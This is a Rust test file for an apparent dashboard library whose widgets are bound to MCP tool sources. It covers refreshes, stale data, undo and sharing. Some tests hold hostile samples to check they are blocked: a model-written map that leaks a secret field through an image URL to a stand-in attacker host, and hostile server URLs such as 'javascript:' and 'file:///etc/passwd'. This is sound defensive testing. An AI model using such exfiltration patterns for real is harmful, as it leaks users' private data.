//! Widgets bound to a source: `widget_display` and `canvas update` run the source at once and show
//! the map's output (its errors come back in the same call), `canvas list` shows the binding and
//! its freshness, and a refresh shows new data or keeps the old data marked stale. The map is the
//! model's, so a refresh shows only images from what it fetched, or ones the widget already shows.

mod common;

use std::cell::RefCell;
use std::rc::Rc;

use autoui_core::autoui::AutoUi;
use autoui_core::autoui::bind::{RebindError, Sources};
use autoui_core::binding::edit;
use autoui_core::binding::fetch::SourceFetcher;
use autoui_core::binding::source::{Refresh, Target, servers_needed};
use autoui_core::cancel::CancelToken;
use autoui_core::ids::{BlockId, ServerId};
use autoui_core::provenance::UrlLedger;
use autoui_core::tool::ToolResult;
use common::Counter;
use common::autoui_server::Harness;
use common::clock::FakeClock;
use futures::channel::oneshot;
use futures::executor::block_on;
use futures::future::LocalBoxFuture;
use serde_json::{Value, json};

/// A server whose `get-time` answers the next scripted result, recording every target asked for;
/// once `held`, its next answer waits until the test sends it.
#[derive(Default)]
struct Scripted {
    answers: RefCell<Vec<Result<ToolResult, String>>>,
    asked: RefCell<Vec<Target>>,
    held: RefCell<Option<oneshot::Receiver<ToolResult>>>,
}

impl Scripted {
    fn answer(&self, answer: Result<ToolResult, String>) {
        self.answers.borrow_mut().push(answer);
    }

    fn time(&self, time: &str) {
        self.answer(Ok(ToolResult { structured: Some(json!({"time": time})), ..ToolResult::text(time) }));
    }
}

impl SourceFetcher for Scripted {
    fn fetch<'a>(&'a self, target: &'a Target, _: CancelToken) -> LocalBoxFuture<'a, Result<ToolResult, String>> {
        self.asked.borrow_mut().push(target.clone());
        if let Some(held) = self.held.borrow_mut().take() {
            return Box::pin(async move { held.await.map_err(|_| "the held answer was dropped".to_owned()) });
        }
        let answer = self.answers.borrow_mut().remove(0);
        Box::pin(async move { answer })
    }
}

fn harness() -> (Harness, Rc<Scripted>, FakeClock) {
    let server = Rc::new(Scripted::default());
    let clock = FakeClock::new();
    let mut h = Harness::with_random(Counter::new(1));
    let ui = AutoUi::new(h.canvas.clone(), h.results.clone(), Rc::new(Counter::new(1)));
    h.ui = ui.with_sources(Sources { fetcher: server.clone(), clock: Rc::new(clock.clone()) });
    (h, server, clock)
}

fn bound_stat_card(refresh: &str) -> Value {
    json!({
        "name": "stat-card",
        "params": {"label": "Server time"},
        "source": {"call": "basic_mcp_get-time", "map": "{value: .time}", "refresh": refresh},
    })
}

#[test]
fn widget_display_with_a_source_shows_the_maps_output_at_once() {
    let (h, server, _) = harness();
    server.time("05:40:01");
    let shown = h.ok("widget_display", bound_stat_card("every 30s"));

    assert_eq!(shown["data"], json!({"label": "Server time", "value": "05:40:01"}));
    assert_eq!(shown["source"]["refresh"], "every 30s");
    assert_eq!(*server.asked.borrow(), vec![Target::Call { call: "basic_mcp_get-time".into(), arguments: json!({}) }]);
    let block = h.block(shown["id"].as_str().unwrap());
    let binding = block.binding.as_ref().expect("the widget is bound");
    assert_eq!(binding.source.refresh, Refresh::Every { seconds: 30 });
    assert_eq!(binding.fetched_ms, Some(1_767_225_600_000.0));
    assert_eq!(binding.error, None);
}

#[test]
fn a_map_error_comes_back_in_the_same_call_and_nothing_is_shown() {
    let (h, server, _) = harness();
    server.time("05:40:01");
    let mut call = bound_stat_card("manual");
    call["source"]["map"] = json!("{value: .time.hours.x}");
    let error = h.err("widget_display", call);
    let message = error["error"].as_str().unwrap();
    assert!(message.starts_with("source: the map failed:"), "{message}");
    assert!(h.canvas.log().is_empty(), "no widget may be added");

    let mut syntax = bound_stat_card("manual");
    syntax["source"]["map"] = json!("{value: .time");
    let error = h.err("widget_display", syntax);
    assert!(error["error"].as_str().unwrap().contains("not a valid jq program"), "{error}");
    assert_eq!(server.asked.borrow().len(), 1, "a map that does not compile calls nothing");
}

#[test]
fn a_schema_error_names_the_paths_and_shows_the_maps_output() {
    let (h, server, _) = harness();
    server.time("05:40:01");
    let mut call = bound_stat_card("manual");
    call["source"]["map"] = json!("{value: .time, variant: 7}");
    let error = h.err("widget_display", call);
    assert_eq!(error["error"], "Validation failed");
    let paths: Vec<&str> = error["details"].as_array().unwrap().iter().map(|d| d["path"].as_str().unwrap()).collect();
    assert!(paths.contains(&"/variant"), "{error}");
    assert_eq!(error["map_output"], json!({"value": "05:40:01", "variant": 7}));
    assert!(error["hint"].as_str().unwrap().contains("source.map"));
    assert!(h.canvas.log().is_empty());
}

#[test]
fn a_bad_source_is_refused_before_anything_runs() {
    let (h, server, _) = harness();
    let error = h.err("widget_display", json!({"name": "stat-card", "params": {}, "source": {"call": "x", "refresh": "often"}}));
    assert!(error["error"].as_str().unwrap().starts_with("source: source.refresh:"), "{error}");
    assert!(error["usage"].as_str().unwrap().contains("every 5m"));
    assert!(server.asked.borrow().is_empty());
}

#[test]
fn a_server_that_cannot_be_reached_fails_the_call() {
    let (h, server, _) = harness();
    server.answer(Err("MCP server \"basic\" is not connected".into()));
    let error = h.err("widget_display", bound_stat_card("manual"));
    assert_eq!(error["error"], "source: the source could not be fetched: MCP server \"basic\" is not connected");
}

#[test]
fn canvas_list_shows_each_source_and_its_freshness() {
    let (h, server, _) = harness();
    server.time("05:40:01");
    let id = h.ok("widget_display", bound_stat_card("on_open"))["id"].as_str().unwrap().to_owned();
    h.show("stat-card", json!({"label": "Static", "value": "1"}));
    let list = h.ok("canvas", json!({"action": "list"}));
    let widgets = list["widgets"].as_array().unwrap();
    let bound = widgets.iter().find(|w| w["id"] == id.as_str()).unwrap();
    assert_eq!(bound["binding"]["source"]["call"], "basic_mcp_get-time");
    assert_eq!(bound["binding"]["source"]["refresh"], "on_open");
    assert_eq!(bound["binding"]["fetched_ms"], json!(1_767_225_600_000.0));
    assert!(widgets.iter().any(|w| w["id"] != id.as_str() && w.get("binding").is_none()));
}

#[test]
fn a_refresh_shows_new_data_and_a_failed_one_keeps_the_old_data_stale() {
    let (h, server, clock) = harness();
    server.time("05:40:01");
    let id = BlockId::new(h.ok("widget_display", bound_stat_card("every 30s"))["id"].as_str().unwrap());
    let layout = h.block(id.as_str()).layout;

    clock.advance(30_000.0);
    server.time("05:40:31");
    block_on(h.ui.refresh_block(&id, CancelToken::default())).unwrap();
    let block = h.block(id.as_str());
    assert_eq!(*block.data, json!({"label": "Server time", "value": "05:40:31"}));
    assert_eq!(block.binding.as_ref().unwrap().fetched_ms, Some(1_767_225_630_000.0));

    clock.advance(30_000.0);
    server.answer(Err("connection refused".into()));
    let error = block_on(h.ui.refresh_block(&id, CancelToken::default())).unwrap_err();
    assert!(error.contains("connection refused"), "{error}");
    let stale = h.block(id.as_str());
    assert_eq!(*stale.data, json!({"label": "Server time", "value": "05:40:31"}), "the last good data stays");
    assert_eq!(stale.binding.as_ref().unwrap().fetched_ms, Some(1_767_225_630_000.0));
    assert!(stale.binding.as_ref().unwrap().error.as_deref().unwrap().contains("connection refused"));
    assert_eq!((stale.kind, stale.layout), (block.kind, layout), "a refresh never changes kind or layout");

    // Data that no longer fits the widget is refused the same way.
    server.answer(Ok(ToolResult { structured: Some(json!({"time": {"h": 5}})), ..ToolResult::text("") }));
    let error = block_on(h.ui.refresh_block(&id, CancelToken::default())).unwrap_err();
    assert!(error.contains("/value"), "{error}");
    assert_eq!(h.block(id.as_str()).data, stale.data);

    server.time("05:41:31");
    block_on(h.ui.refresh_block(&id, CancelToken::default())).unwrap();
    assert_eq!(h.block(id.as_str()).binding.as_ref().unwrap().error, None, "a good refresh clears the stale mark");
}

const ADA: &str = "https://upload.wikimedia.org/ada.jpg";
const GRACE: &str = "https://upload.wikimedia.org/grace.jpg";
const LEAK: &str = "https://collect.attacker.io/?d=";

/// [`harness`] whose autoui holds the agent's images to what `urls` has seen, as in the app.
fn harness_with_ledger(urls: Rc<UrlLedger>) -> (Harness, Rc<Scripted>) {
    let server = Rc::new(Scripted::default());
    let mut h = Harness::with_random(Counter::new(1));
    let ui = AutoUi::new(h.canvas.clone(), h.results.clone(), Rc::new(Counter::new(1))).with_url_ledger(urls);
    h.ui = ui.with_sources(Sources { fetcher: server.clone(), clock: Rc::new(FakeClock::new()) });
    (h, server)
}

fn person(photo: &str) -> Result<ToolResult, String> {
    Ok(ToolResult::json(json!({"name": "Ada", "role": "Engineer", "photo": photo, "secret": "the-launch-date"})))
}

fn bound_profile(params: Value, map: &str) -> Value {
    json!({"name": "profile", "params": params, "source": {"call": "people_mcp_get", "map": map}})
}

fn refreshed(h: &Harness, id: &str) -> Value {
    block_on(h.ui.refresh_block(&BlockId::new(id), CancelToken::default())).unwrap();
    (*h.block(id).data).clone()
}

#[test]
fn a_refresh_shows_images_from_what_it_fetched_never_one_the_map_made_up() {
    // The model read the person before binding the widgets, so the ledger knows Ada's photo.
    let urls = Rc::new(UrlLedger::default());
    urls.record_data(&json!({"photo": ADA}).to_string());
    let (h, server) = harness_with_ledger(urls);
    let exfiltrating = format!("{{name: .name, avatar: (\"{LEAK}\" + .secret)}}");
    server.answer(person(ADA));
    let leaky = h.ok("widget_display", bound_profile(json!({"name": "?"}), &exfiltrating));
    let leaky = leaky["id"].as_str().unwrap();
    assert!(h.block(leaky).data.get("avatar").is_none(), "refused on first display");
    server.answer(person(ADA));
    let data = refreshed(&h, leaky);
    assert_eq!(data, json!({"name": "Ada"}), "and at every refresh");

    server.answer(person(ADA));
    let honest = h.ok("widget_display", bound_profile(json!({"name": "?"}), "{name: .name, avatar: .photo}"));
    let honest = honest["id"].as_str().unwrap();
    server.answer(person(GRACE));
    assert_eq!(refreshed(&h, honest)["avatar"], GRACE, "a photo in the refreshed result shows");
}

#[test]
fn an_image_the_widget_shows_stays_through_refreshes_but_a_url_from_its_text_never_becomes_one() {
    let urls = Rc::new(UrlLedger::default());
    urls.record_data(&json!({"photo": ADA}).to_string());
    let (h, server) = harness_with_ledger(urls);
    server.answer(person(GRACE));
    let shown = h.ok("widget_display", bound_profile(json!({"name": "Ada", "avatar": ADA}), "{subtitle: .role}"));
    let shown = shown["id"].as_str().unwrap();
    server.answer(person(GRACE));
    assert_eq!(refreshed(&h, shown)["avatar"], ADA, "the map does not write it, and it showed already");

    // A link is never fetched by itself, so it is not checked; it must not turn into an image.
    let link = format!("{LEAK}the-launch-date");
    let params = json!({"name": "Ada", "fields": [{"label": "Site", "value": "site", "href": link}]});
    server.answer(person(ADA));
    let laundering = h.ok("widget_display", bound_profile(params, &format!("{{avatar: \"{link}\"}}")));
    let laundering = laundering["id"].as_str().unwrap();
    assert_eq!(h.block(laundering).data["fields"][0]["href"], json!(link));
    server.answer(person(ADA));
    assert!(refreshed(&h, laundering).get("avatar").is_none());
}

#[test]
fn canvas_update_binds_and_unbinds() {
    let (h, server, _) = harness();
    let id = h.show("stat-card", json!({"label": "Server time", "value": "?"}));
    server.time("05:50:00");
    let updated = h.ok("canvas", json!({"action": "update", "id": id, "params": {"source": {"call": "basic_mcp_get-time", "map": "{value: .time}"}}}));
    assert_eq!(updated["widget"]["data"]["value"], "05:50:00");
    assert_eq!(updated["widget"]["binding"]["source"]["map"], "{value: .time}");
    assert!(h.block(&id).binding.is_some());

    let unbound = h.ok("canvas", json!({"action": "update", "id": id, "params": {"source": null}}));
    assert_eq!(unbound["unbound"], true);
    assert!(h.block(&id).binding.is_none());
    assert_eq!(h.block(&id).data["value"], "05:50:00", "unbinding keeps the data");
}

#[test]
fn a_binding_travels_in_exports_and_share_links() {
    use autoui_core::canvas::{exchange, share};

    let (h, server, _) = harness();
    server.time("05:40:01");
    let id = h.ok("widget_display", bound_stat_card("on_open"))["id"].as_str().unwrap().to_owned();
    let canvas = canvas_of(&h);
    let original = h.block(&id).binding.unwrap();

    let imported = exchange::import(&exchange::export_file(&canvas, None, &[]), &Counter::new(9), 1.0).unwrap();
    assert_eq!(imported.canvas.blocks()[0].binding.as_deref(), Some(original.as_ref()));
    let param = share::encode_param(&canvas, Some("Clock"), &[]);
    let opened = share::open(&param, &Counter::new(9), 1.0).unwrap();
    assert_eq!(opened.canvas.blocks()[0].binding.as_ref().unwrap().source, original.source);
}

/// A canvas holding `h`'s blocks, as the app's store would.
fn canvas_of(h: &Harness) -> autoui_core::canvas::model::Canvas {
    use autoui_core::canvas::op::CanvasPort;
    let mut canvas = autoui_core::canvas::model::Canvas::new();
    let blocks = h.canvas.blocks();
    canvas.apply(autoui_core::canvas::op::Op::Replace { blocks }, &autoui_core::tool::Origin::User, 0.0).unwrap();
    canvas
}

/// Two cards bound to `basic`, and the servers added in the sharing page (`other` is not needed).
fn shared_clock() -> (autoui_core::canvas::model::Canvas, Vec<(ServerId, String)>) {
    let (h, server, _) = harness();
    server.time("05:40:01");
    server.time("05:40:02");
    h.ok("widget_display", bound_stat_card("on_open"));
    h.ok("widget_display", bound_stat_card("manual"));
    h.show("stat-card", json!({"label": "Static", "value": "1"}));
    let added = vec![
        (ServerId::sanitize("other"), "https://other.example/mcp".to_owned()),
        (ServerId::sanitize("basic"), "http://ada:s3cret@127.0.0.1:3001/mcp?region=eu&api_key=K3Y&token=T0K#top".to_owned()),
    ];
    (canvas_of(&h), added)
}

const SHAREABLE: &str = "http://127.0.0.1:3001/mcp?region=eu";

#[test]
fn a_shared_or_exported_dashboard_says_where_its_servers_live_without_their_secrets() {
    use autoui_core::canvas::{exchange, share};
    use autoui_core::store::StoredRecords;
    use autoui_core::store::session::{SessionState, SessionWriter, read_session};

    let (canvas, added) = shared_clock();
    let file: Value = serde_json::from_str(&exchange::export_file(&canvas, Some("Clock"), &added)).unwrap();
    assert_eq!(
        file["meta"]["provenance"]["mcpServers"],
        json!([{"name": "basic", "url": SHAREABLE}]),
        "only the server the bindings need, once, without userinfo, credentials or fragment"
    );
    assert_eq!(file["content"]["blocks"][0]["binding"]["server_url"], SHAREABLE, "and in each binding calling it");
    let param = share::encode_param(&canvas, Some("Clock"), &added);
    let text = share::decode_text(&param).unwrap();
    for secret in ["ada", "s3cret", "K3Y", "T0K", "api_key", "token", "other.example"] {
        assert!(!text.contains(secret), "{secret} in the link: {text}");
    }

    for opened in [share::open(&param, &Counter::new(9), 1.0).unwrap(), exchange::import(&file.to_string(), &Counter::new(9), 1.0).unwrap()] {
        assert_eq!(opened.mcp_servers, [SHAREABLE]);
        let needed = servers_needed(opened.canvas.blocks());
        assert_eq!(needed.len(), 1);
        assert_eq!((needed[0].server.as_str(), needed[0].url.as_deref()), ("basic", Some(SHAREABLE)));
        assert_eq!(needed[0].host().as_deref(), Some("127.0.0.1:3001"));

        // Made one's own, the copy is stored with the URL: a reload still knows it, and sharing it
        // again from a page where the server is not added still says where it lives.
        let write = SessionWriter::default().plan(SessionState { canvas: opened.canvas.clone(), ..SessionState::default() });
        let mut records = StoredRecords::default();
        records.apply(&write.plan);
        let restored = read_session(&records, &Counter::new(3), 3.0).unwrap().unwrap().loaded.value.canvas;
        assert_eq!(servers_needed(restored.blocks())[0].url.as_deref(), Some(SHAREABLE));
        let again: Value = serde_json::from_str(&exchange::export_compact(&restored, None, &[])).unwrap();
        assert_eq!(again["meta"]["provenance"]["mcpServers"], json!([{"name": "basic", "url": SHAREABLE}]));
    }
}

#[test]
fn a_dashboard_without_server_urls_still_opens_and_hostile_ones_are_ignored() {
    use autoui_core::canvas::{exchange, share};

    let (canvas, _) = shared_clock();
    // Written before URLs were carried (or where the server was not added): no provenance at all.
    let old = exchange::export_file(&canvas, None, &[]);
    let mut document: Value = serde_json::from_str(&old).unwrap();
    assert_eq!(document["meta"].get("provenance"), None, "{old}");
    let opened = exchange::import(&old, &Counter::new(9), 1.0).unwrap();
    assert_eq!(opened.canvas.blocks().len(), 3);
    assert_eq!(servers_needed(opened.canvas.blocks())[0].url, None, "Connect then asks for the URL");

    for hostile in ["javascript:alert(1)", "data:text/html,<b>x</b>", "file:///etc/passwd", "/relative/mcp", "//evil.example/mcp"] {
        document["meta"]["provenance"] = json!({"mcpServers": [{"name": "basic", "url": hostile}, hostile]});
        document["content"]["blocks"][0]["binding"]["server_url"] = json!(hostile);
        let opened = share::open(&share::link("https://a.example/", &encode(&document)), &Counter::new(9), 1.0).unwrap();
        assert!(opened.set_aside.is_empty(), "{hostile}: nothing set aside");
        assert!(opened.mcp_servers.is_empty(), "{hostile}");
        assert!(opened.canvas.blocks()[0].binding.is_some(), "{hostile}: the binding is kept");
        assert_eq!(servers_needed(opened.canvas.blocks())[0].url, None, "{hostile}");
    }
    // An http URL that is not one URL reaches nobody either: the list reads it through `shareable`.
    let broken = "https://exa mple.org/mcp\"><b>x</b>";
    document["content"]["blocks"][0]["binding"]["server_url"] = json!(broken);
    let opened = exchange::import(&document.to_string(), &Counter::new(9), 1.0).unwrap();
    assert_eq!(servers_needed(opened.canvas.blocks())[0].url, None, "{broken}");
    let long = format!("https://example.org/{}", "a".repeat(3_000));
    document["content"]["blocks"][0]["binding"]["server_url"] = json!(long);
    let opened = exchange::import(&document.to_string(), &Counter::new(9), 1.0).unwrap();
    assert_eq!(servers_needed(opened.canvas.blocks())[0].url, None, "an over-long URL is ignored");
}

/// `document` as a plain (uncompressed) `hs` value.
fn encode(document: &Value) -> String {
    use base64::Engine;
    base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(document.to_string())
}

/// A store whose canvas has one stat card, `w_a`, bound to a source, and nothing to tell the agent.
fn store_with_a_bound_card() -> (autoui_core::canvas::store::CanvasStore, BlockId) {
    use std::sync::Arc;

    use autoui_core::binding::source::{Binding, Source};
    use autoui_core::canvas::history::HistoryLimits;
    use autoui_core::canvas::model::Canvas;
    use autoui_core::canvas::op::Op;
    use autoui_core::canvas::store::CanvasStore;
    use autoui_core::tool::Origin;
    use autoui_core::widget_kind::WidgetKind;

    let mut store = CanvasStore::new(Canvas::new(), HistoryLimits::default());
    let id = BlockId::new("w_a");
    let add = Op::Add { id: id.clone(), kind: WidgetKind::StatCard, data: Arc::new(json!({"label": "t", "value": "1"})), layout: None, style: Default::default() };
    store.apply(add, &Origin::User, 1.0).unwrap();
    let source = Source::parse(&json!({"call": "s_mcp_t"})).unwrap();
    store.apply(Op::Bind { id: id.clone(), binding: Some(Arc::new(Binding::fresh(source, 1.0))) }, &Origin::User, 2.0).unwrap();
    store.mark();
    (store, id)
}

#[test]
fn a_refresh_is_not_a_step_to_undo_nor_a_change_to_report() {
    use std::sync::Arc;

    use autoui_core::canvas::op::{Op, RefreshOutcome};
    use autoui_core::tool::Origin;

    let (mut store, id) = store_with_a_bound_card();
    let steps = store.history().undo_len();

    let data = Arc::new(json!({"label": "t", "value": "2"}));
    let outcome = RefreshOutcome::Fetched { data: data.clone(), fetched_ms: 3.0 };
    assert!(!store.apply(Op::Refreshed { id: id.clone(), outcome }, &Origin::User, 3.0).unwrap().is_empty());
    assert_eq!(store.canvas().get(&id).unwrap().data, data);
    assert_eq!(store.history().undo_len(), steps, "not a step to undo");
    assert_eq!(store.changes_since_mark(), None, "nothing to tell the agent");
}

// The person's edit in the widget menu (`binding::edit`, `AutoUi::rebind`).

#[test]
fn an_edited_source_runs_once_and_the_widget_shows_its_output() {
    let (h, server, _) = harness();
    server.time("05:40:01");
    let id = BlockId::new(h.ok("widget_display", bound_stat_card("on_open"))["id"].as_str().unwrap());
    let original = h.block(id.as_str()).binding.unwrap().source.clone();

    let source = edit::edited(&original, "{\"tz\": \"CET\"}", "{value: .time, label: \"Time in CET\"}").unwrap();
    server.time("06:00:00");
    block_on(h.ui.rebind(&id, source)).unwrap();

    let block = h.block(id.as_str());
    assert_eq!(block.data["value"], "06:00:00");
    assert_eq!(block.data["label"], "Time in CET");
    let binding = block.binding.unwrap();
    assert_eq!(binding.source.target, Target::Call { call: "basic_mcp_get-time".into(), arguments: json!({"tz": "CET"}) });
    assert_eq!(binding.source.refresh, Refresh::OnOpen, "the schedule stays");
    assert_eq!(server.asked.borrow().last(), Some(&binding.source.target), "the new arguments were sent");
}

#[test]
fn a_refresh_still_fetching_when_the_source_is_edited_does_not_bring_the_old_source_back() {
    use std::future::Future;
    use std::task::Context;

    let (h, server, _) = harness();
    server.time("05:40:01");
    let id = BlockId::new(h.ok("widget_display", bound_stat_card("every 30s"))["id"].as_str().unwrap());
    let original = h.block(id.as_str()).binding.unwrap().source.clone();

    // A refresh of the old source is on its way when the person applies an edited one.
    let (answer_late, held) = oneshot::channel();
    *server.held.borrow_mut() = Some(held);
    let mut refresh = Box::pin(h.ui.refresh_block(&id, CancelToken::default()));
    let waker = futures::task::noop_waker();
    assert!(refresh.as_mut().poll(&mut Context::from_waker(&waker)).is_pending(), "the old answer is held");
    server.time("06:00:00");
    let edited = edit::edited(&original, "{}", "{value: .time, label: \"Edited\"}").unwrap();
    block_on(h.ui.rebind(&id, edited.clone())).unwrap();

    answer_late.send(ToolResult { structured: Some(json!({"time": "05:40:31"})), ..ToolResult::text("05:40:31") }).unwrap();
    assert_eq!(block_on(refresh), Ok(()));
    let block = h.block(id.as_str());
    assert_eq!(*block.data, json!({"label": "Edited", "value": "06:00:00"}), "the edited source's data stays");
    let binding = block.binding.unwrap();
    assert_eq!(binding.source, edited, "the edited source stays");
    assert_eq!(binding.error, None);
}

#[test]
fn an_edited_source_keeps_the_server_url_a_shared_dashboard_carried_while_it_calls_that_server() {
    use std::sync::Arc;

    use autoui_core::binding::source::Binding;
    use autoui_core::canvas::op::{CanvasPort, Op};
    use autoui_core::tool::Origin;

    const URL: &str = "https://tools.example.org/mcp";
    let (h, server, _) = harness();
    server.time("05:40:01");
    let id = BlockId::new(h.ok("widget_display", bound_stat_card("manual"))["id"].as_str().unwrap());
    // As a share link opened and made one's own leaves it: the binding says where its server lives.
    let carried = Binding { server_url: Some(URL.into()), ..h.block(id.as_str()).binding.unwrap().as_ref().clone() };
    h.canvas.apply(Op::Bind { id: id.clone(), binding: Some(Arc::new(carried)) }, Origin::User).unwrap();
    let original = h.block(id.as_str()).binding.unwrap().source.clone();

    server.time("06:00:00");
    let edited = edit::edited(&original, "{\"tz\": \"CET\"}", "{value: .time}").unwrap();
    block_on(h.ui.rebind(&id, edited)).unwrap();
    assert_eq!(h.block(id.as_str()).binding.unwrap().server_url.as_deref(), Some(URL), "same server: the URL stays");
    assert_eq!(servers_needed(&[h.block(id.as_str())])[0].url.as_deref(), Some(URL), "Connect still knows where it lives");

    // Pointed at another server's tool, the URL no longer says anything about it.
    server.time("06:00:01");
    let elsewhere = autoui_core::binding::source::Source::parse(&json!({"call": "other_mcp_get-time", "map": "{value: .time}"})).unwrap();
    block_on(h.ui.rebind(&id, elsewhere)).unwrap();
    assert_eq!(h.block(id.as_str()).binding.unwrap().server_url, None, "another server: no URL");
}

#[test]
fn an_edited_source_that_fails_changes_nothing_and_says_why() {
    let (h, server, _) = harness();
    server.time("05:40:01");
    let id = BlockId::new(h.ok("widget_display", bound_stat_card("manual"))["id"].as_str().unwrap());
    let before = h.block(id.as_str());
    let original = before.binding.as_ref().unwrap().source.clone();

    // The map's output does not fit a stat card: the paths come back, with the output.
    server.time("06:00:00");
    let wrong = edit::edited(&original, "{}", "{value: .time, variant: 7}").unwrap();
    let Err(RebindError::Schema { details, mapped }) = block_on(h.ui.rebind(&id, wrong)) else { panic!("a schema error") };
    assert!(details.iter().any(|detail| detail.path == "/variant"), "{details:?}");
    assert_eq!(mapped, json!({"value": "06:00:00", "variant": 7}));
    assert_eq!(h.block(id.as_str()), before, "nothing changed");

    // The map fails at run time, or the server is down: the same.
    server.time("06:00:01");
    let failing = edit::edited(&original, "{}", "{value: .time.hours.x}").unwrap();
    let Err(RebindError::Source(message)) = block_on(h.ui.rebind(&id, failing)) else { panic!("a map error") };
    assert!(message.starts_with("the map failed"), "{message}");
    server.answer(Err("connection refused".into()));
    let Err(RebindError::Source(message)) = block_on(h.ui.rebind(&id, original)) else { panic!("a fetch error") };
    assert!(message.contains("connection refused"), "{message}");
    assert_eq!(h.block(id.as_str()), before, "nothing changed");
}

#[test]
fn a_dashboard_names_each_server_its_bindings_need_once() {
    let (h, server, _) = harness();
    server.time("05:40:01");
    server.time("05:40:02");
    let first = h.ok("widget_display", bound_stat_card("on_open"))["id"].as_str().unwrap().to_owned();
    let second = h.ok("widget_display", bound_stat_card("manual"))["id"].as_str().unwrap().to_owned();
    let snapshot = h.show("stat-card", json!({"label": "Static", "value": "1"}));
    let blocks = [h.block(&snapshot), h.block(&first), h.block(&second)];
    let needed: Vec<ServerId> = servers_needed(&blocks).into_iter().map(|needed| needed.server).collect();
    assert_eq!(needed, vec![ServerId::sanitize("basic")]);
    assert_eq!(servers_needed(&blocks[..1]), vec![], "a snapshot needs no server");
}

#[test]
fn a_name_given_by_hand_stays_through_refreshes_and_new_sources_until_the_widget_is_unbound() {
    use autoui_core::canvas::op::{CanvasPort, Op};
    use autoui_core::tool::Origin;

    let (h, server, _) = harness();
    server.time("05:40:01");
    let mut call = bound_stat_card("every 30s");
    call["source"]["map"] = json!("{label: (\"Time \" + .time), value: .time}");
    let id = BlockId::new(h.ok("widget_display", call)["id"].as_str().unwrap());
    assert_eq!(h.block(id.as_str()).data["label"], "Time 05:40:01", "the map names the widget");

    h.canvas.apply(Op::Rename { id: id.clone(), title: " Clock \n in Paris ".into() }, Origin::User).unwrap();
    server.time("05:40:31");
    block_on(h.ui.refresh_block(&id, CancelToken::default())).unwrap();
    assert_eq!(*h.block(id.as_str()).data, json!({"label": "Clock in Paris", "value": "05:40:31"}), "new data, the person's name");
    let list = h.ok("canvas", json!({"action": "list"}));
    assert_eq!(list["widgets"][0]["binding"]["renamed_by_person"], true, "the model learns why its map's name does not show");

    // The agent's new source, and the person's, keep the name; a name the agent gives stays too.
    server.time("05:41:00");
    let source = json!({"call": "basic_mcp_get-time", "map": "{label: .time, value: .time}"});
    let updated = h.ok("canvas", json!({"action": "update", "id": id.as_str(), "params": {"source": source}}));
    assert_eq!(updated["widget"]["data"]["label"], "Clock in Paris");
    server.time("05:41:30");
    let edited = edit::edited(&h.block(id.as_str()).binding.unwrap().source, "{}", "{label: .time, value: .time}").unwrap();
    block_on(h.ui.rebind(&id, edited)).unwrap();
    assert_eq!(h.block(id.as_str()).data["label"], "Clock in Paris");
    h.ok("canvas", json!({"action": "update", "id": id.as_str(), "params": {"data": {"label": "Paris"}}}));
    server.time("05:42:00");
    block_on(h.ui.refresh_block(&id, CancelToken::default())).unwrap();
    assert_eq!(*h.block(id.as_str()).data, json!({"label": "Paris", "value": "05:42:00"}));

    // Unbound, the widget forgets it was renamed: bound again, its map names it.
    h.ok("canvas", json!({"action": "update", "id": id.as_str(), "params": {"source": null}}));
    server.time("05:43:00");
    h.ok("canvas", json!({"action": "update", "id": id.as_str(), "params": {"source": source}}));
    assert_eq!(h.block(id.as_str()).data["label"], "05:43:00");
    assert!(!h.block(id.as_str()).binding.unwrap().renamed);
}

#[test]
fn renaming_a_bound_widget_is_one_step_to_undo() {
    use autoui_core::canvas::op::Op;
    use autoui_core::tool::Origin;

    let (mut store, id) = store_with_a_bound_card();
    let before = store.canvas().get(&id).unwrap().clone();

    assert!(store.apply(Op::Rename { id: id.clone(), title: "  ".into() }, &Origin::User, 3.0).unwrap().is_empty(), "a blank name is no rename");
    store.apply(Op::Rename { id: id.clone(), title: "Sales".into() }, &Origin::User, 3.0).unwrap();
    let renamed = store.canvas().get(&id).unwrap();
    assert_eq!((renamed.data["label"].as_str(), renamed.binding.as_ref().unwrap().renamed), (Some("Sales"), true));
    assert!(store.changes_since_mark().is_some_and(|changes| changes.contains("w_a")), "the agent hears of the rename");
    store.undo(&Origin::User).unwrap();
    let undone = store.canvas().get(&id).unwrap();
    assert_eq!((&undone.data, undone.binding.as_ref().unwrap().renamed), (&before.data, false), "one undo brings both back");
}
